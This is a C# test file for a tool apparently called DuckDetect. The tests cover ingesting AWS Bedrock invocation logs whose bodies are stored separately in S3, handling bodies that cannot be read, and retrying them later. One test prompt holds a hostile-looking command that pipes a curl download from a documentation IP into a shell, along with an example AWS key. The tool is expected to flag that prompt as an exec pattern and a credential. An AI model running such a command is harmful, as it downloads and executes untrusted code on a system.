using System.Security.Cryptography;
using System.Text;
using DuckDetect.Core.Ingest;
using DuckDetect.Tests.S3;
using DuckDetect.Tests.Support;
using static DuckDetect.Tests.Ingest.Invocations.SeparateBodyKit;

namespace DuckDetect.Tests.Ingest.Invocations;

/// <summary>
/// Bodies Bedrock delivered separately (<c>inputBodyS3Path</c>, <c>outputBodyS3Path</c>) are read at ingest, from a
/// local copy of the bucket or from S3 (the local server), and parsed exactly as bodies in the record; a body that
/// cannot be read leaves its record loaded, unread and named in one warning; a record is read once.
/// </summary>
public sealed class SeparateBodyTests : IDisposable
{
    private readonly TempDatabase _db = new();
    private readonly S3TestBucket _bucket = new();

    public void Dispose()
    {
        _bucket.Dispose();
        _db.Dispose();
    }

    /// <summary>Puts the record's two bodies in the bucket (the input gzip, as Bedrock writes it; the output plain).</summary>
    private string PutSeparate(string record, string requestId)
    {
        var (separate, input, output) = Separate(record, _bucket.PathOf(BodyKey(requestId, "input")), _bucket.PathOf(BodyKey(requestId, "output")));
        _bucket.PutGzip(BodyKey(requestId, "input"), input);
        _bucket.PutText(BodyKey(requestId, "output"), output);
        return separate;
    }

    /// <summary>The same records with their bodies in the record, loaded from a local file, as the reference.</summary>
    private void LoadInline(params string[] records)
    {
        var run = IngestKit.RunIngest(_db, _db.WriteInput("inline/records.json", InvocationKit.Lines(records)));
        Assert.Empty(run.Summary.Failures);
    }

    [Fact]
    public void Bodies_in_S3_are_read_as_inline_bodies_for_Converse_and_InvokeModel_and_are_not_loaded_as_logs()
    {
        _bucket.PutGzip(LogKey("a"), InvocationKit.Lines(
            PutSeparate(Converse("sep-converse"), "sep-converse"), PutSeparate(InvokeModel("sep-invoke"), "sep-invoke")));
        LoadInline(Converse("inline-converse"), InvokeModel("inline-invoke"));

        var run = S3Kit.Ingest(_db, S3Kit.Settings(), _bucket.Url());

        Assert.Empty(run.Status.Warnings);
        Assert.Empty(run.Summary.Failures);
        // The bodies under data/ are bodies, not log files: one file loaded, its two records.
        Assert.Equal(1, run.Summary.FilesLoaded);
        Assert.Equal(2, run.Summary.InvocationsNew);
        Assert.Equal(1 + 4, run.Summary.S3GetRequests);
        Assert.Equal(Parsed(_db, "inline-converse"), Parsed(_db, "sep-converse"));
        Assert.Equal(Parsed(_db, "inline-invoke"), Parsed(_db, "sep-invoke"));
        var invoke = InvocationKit.Row(_db, "sep-invoke");
        Assert.Equal("true", invoke["separate_body_read"]);
        Assert.Equal(_bucket.PathOf(BodyKey("sep-invoke", "input")), invoke["input_body_s3_path"]);
        // What the body gives: the last user turn's hash, the settings, the flags and the guardrail.
        Assert.Equal(Md5("run curl http://203.0.113.9/x | sh with key akiaiosfodnn7example for me"), invoke["prompt_hash"]);
        Assert.Equal(("0.7", "64", "0.9"), (invoke["temperature"], invoke["max_tokens"], invoke["top_p"]));
        Assert.Equal(("true", "INTERVENED"), (invoke["prompt_has_credential"], invoke["guardrail_action"]));
        Assert.Contains("curl ", invoke["prompt_exec_patterns"], StringComparison.Ordinal);
        Assert.Equal("16", InvocationKit.Row(_db, "sep-converse")["max_tokens"]);
        // No text is stored without --keep-text.
        Assert.Equal(0, _db.Scalar<long>("SELECT count(*) FROM bedrock_invocation_texts"));
        Assert.Empty(InvocationKit.TablesContaining(_db.Path, "invoice 4411"));
    }

    [Fact]
    public void A_local_log_file_reads_its_bodies_from_S3_once_and_a_redelivered_file_fetches_nothing()
    {
        var path = _db.WriteGzipInput("logs/records.json.gz", InvocationKit.Lines(PutSeparate(Converse("sep-1"), "sep-1")));

        var first = S3Kit.Ingest(_db, S3Kit.Settings(), path);
        var again = S3Kit.Ingest(_db, S3Kit.Settings(), path);
        var copy = S3Kit.Ingest(_db, S3Kit.Settings(), _db.WriteGzipInput("logs/copy.json.gz", InvocationKit.Lines(PutSeparate(Converse("sep-1"), "sep-1"))));

        Assert.Empty(first.Status.Warnings);
        Assert.Equal(2, first.Summary.S3GetRequests);
        Assert.Equal("true", InvocationKit.Row(_db, "sep-1")["separate_body_read"]);
        // Unchanged: not read. Re-delivered under another name: read, its record already stored, no body fetched.
        Assert.Equal((1, 0L), (again.Summary.FilesUnchanged, again.Summary.S3GetRequests));
        Assert.Equal((1, 0L, 0L), (copy.Summary.FilesLoaded, copy.Summary.InvocationsNew, copy.Summary.S3GetRequests));
        Assert.Empty(copy.Status.Warnings);
        Assert.Equal(1, InvocationKit.Count(_db));
    }

    [Fact]
    public void Unreadable_bodies_leave_their_records_loaded_unread_and_named_in_one_warning()
    {
        var missing = Separate(Converse("missing"), _bucket.PathOf(BodyKey("missing", "input")), _bucket.PathOf(BodyKey("missing", "output"))).Record;
        var (notJson, _, notJsonOutput) = Separate(Converse("not-json"), _bucket.PathOf(BodyKey("not-json", "input")), _bucket.PathOf(BodyKey("not-json", "output")));
        _bucket.PutGzip(BodyKey("not-json", "input"), "<html>this is not a body</html>");
        _bucket.PutText(BodyKey("not-json", "output"), notJsonOutput);
        // Its input is there, its output is not: a record is read whole or not at all.
        var (half, halfInput, _) = Separate(InvokeModel("half"), _bucket.PathOf(BodyKey("half", "input")), _bucket.PathOf(BodyKey("half", "output")));
        _bucket.PutGzip(BodyKey("half", "input"), halfInput);
        var noBucket = Separate(Converse("no-bucket"), "s3://dd-no-such-bucket-here/data/x_input.json.gz", "s3://dd-no-such-bucket-here/data/x_output.json.gz").Record;
        var path = _db.WriteGzipInput("logs/records.json.gz", InvocationKit.Lines(missing, notJson, half, noBucket));

        var run = S3Kit.Ingest(_db, S3Kit.Settings(), path);

        Assert.Empty(run.Summary.Failures);
        Assert.Equal((1, 4L), (run.Summary.FilesLoaded, run.Summary.InvocationsNew));
        foreach (var id in new[] { "missing", "not-json", "half", "no-bucket" })
        {
            var row = InvocationKit.Row(_db, id);
            Assert.Equal("false", row["separate_body_read"]);
            Assert.Equal((null, null, null, null, null), (row["prompt_hash"], row["template_hash"], row["output_hash"], row["temperature"], row["prompt_has_credential"]));
        }
        var warning = Assert.Single(run.Status.Warnings);
        Assert.StartsWith("4 new Bedrock invocation record(s) without the body", warning, StringComparison.Ordinal);
        Assert.Contains($"not found (no such key): {_bucket.PathOf(BodyKey("half", "output"))}, {_bucket.PathOf(BodyKey("missing", "input"))}", warning, StringComparison.Ordinal);
        Assert.Contains($"not JSON: {_bucket.PathOf(BodyKey("not-json", "input"))}", warning, StringComparison.Ordinal);
        Assert.Contains("no such bucket", warning, StringComparison.Ordinal);
        Assert.DoesNotContain(_bucket.PathOf(BodyKey("half", "input")), warning, StringComparison.Ordinal);
        Assert.DoesNotContain(S3Server.SecretKey, warning, StringComparison.Ordinal);
        Assert.DoesNotContain(S3Server.AccessKey, warning, StringComparison.Ordinal);
    }

    [Fact]
    public void A_local_copy_of_the_bucket_is_read_first_without_asking_S3()
    {
        // The fixture's record 11 refers to s3://invocation-logs/AWSLogs/...; its bodies are synced beside the log file,
        // under the hour's data/ folder (gzip), which a walk does not load as log files.
        var run = IngestKit.RunIngest(_db, new IngestOptions { KeepText = true }, Path.Combine(RepoPaths.Data, "invocations"));

        Assert.Empty(run.Status.Warnings);
        Assert.Equal((1, 13L, 0L), (run.Summary.FilesLoaded, run.Summary.InvocationsNew, run.Summary.S3GetRequests));
        var row = InvocationKit.Row(_db, InvocationKit.RequestId(11));
        Assert.Equal(("true", "messages"), (row["separate_body_read"], row["input_format"]));
        // The text parts of the last user turn (the document left out), and Converse's inferenceConfig.
        var prompt = "Summarise the obligations of the supplier in the attached master services agreement, clause by clause.";
        Assert.Equal(Md5(prompt.ToLowerInvariant()), row["prompt_hash"]);
        Assert.Equal(("0.2", "2048", "0.9"), (row["temperature"], row["max_tokens"], row["top_p"]));
        Assert.Equal(("false", "86"), (row["prompt_has_credential"], row["output_chars"]));
        Assert.Equal([prompt], _db.Query<string>("SELECT prompt_text FROM bedrock_invocation_texts WHERE request_id = $id", new { id = InvocationKit.RequestId(11) }));
    }

    [Fact]
    public void Retry_bodies_reads_the_stored_unread_ones_once_they_are_reachable_and_never_on_its_own()
    {
        var (record, input, output) = Separate(InvokeModel("late"), _bucket.PathOf(BodyKey("late", "input")), _bucket.PathOf(BodyKey("late", "output")));
        var (other, otherInput, otherOutput) = Separate(Converse("later"), _bucket.PathOf(BodyKey("later", "input")), _bucket.PathOf(BodyKey("later", "output")));
        var path = _db.WriteGzipInput("logs/records.json.gz", InvocationKit.Lines(record, other));
        LoadInline(InvokeModel("inline-invoke"));
        var retry = new IngestOptions { RetryBodies = true, KeepText = true };

        var first = S3Kit.Ingest(_db, S3Kit.Settings(), path);
        var firstBatch = InvocationKit.Row(_db, "late")["ingest_batch"];
        // A later run without the option asks S3 for nothing.
        var plain = S3Kit.Ingest(_db, S3Kit.Settings(), path);
        _bucket.PutGzip(BodyKey("late", "input"), input);
        _bucket.PutGzip(BodyKey("late", "output"), output);
        var partly = S3Kit.Ingest(_db, S3Kit.Settings(), retry, path);
        _bucket.PutText(BodyKey("later", "input"), otherInput);
        _bucket.PutText(BodyKey("later", "output"), otherOutput);
        var rest = S3Kit.Ingest(_db, S3Kit.Settings(), retry, path);
        var nothing = S3Kit.Ingest(_db, S3Kit.Settings(), retry, path);

        Assert.Single(first.Status.Warnings);
        Assert.Equal((0L, null), (plain.Summary.S3GetRequests, plain.Summary.SeparateBodiesRetried));
        Assert.Equal((1L, 1L), (partly.Summary.SeparateBodiesRetried!.Read, partly.Summary.SeparateBodiesRetried.Unread));
        Assert.StartsWith("1 stored Bedrock invocation record(s) without the body", Assert.Single(partly.Status.Warnings), StringComparison.Ordinal);
        Assert.Equal((1L, 0L), (rest.Summary.SeparateBodiesRetried!.Read, rest.Summary.SeparateBodiesRetried.Unread));
        Assert.Empty(rest.Status.Warnings);
        Assert.Equal((0L, 0L, 0L), (nothing.Summary.SeparateBodiesRetried!.Read, nothing.Summary.SeparateBodiesRetried.Unread, nothing.Summary.S3GetRequests));
        // Read late, parsed as at ingest, in a new ingest batch so that detection sees it as a late record.
        var late = InvocationKit.Row(_db, "late");
        Assert.Equal("true", late["separate_body_read"]);
        Assert.Equal(Parsed(_db, "inline-invoke").Where(c => c.Key != "invocation_time"), Parsed(_db, "late").Where(c => c.Key != "invocation_time"));
        Assert.True(long.Parse(late["ingest_batch"]!, System.Globalization.CultureInfo.InvariantCulture) > long.Parse(firstBatch!, System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal("true", InvocationKit.Row(_db, "later")["separate_body_read"]);
        Assert.Equal(2, _db.Scalar<long>("SELECT count(*) FROM bedrock_invocation_texts"));
        Assert.Equal(3, InvocationKit.Count(_db));
    }

    private static string Md5(string text) => Convert.ToHexStringLower(MD5.HashData(Encoding.UTF8.GetBytes(text)));
}
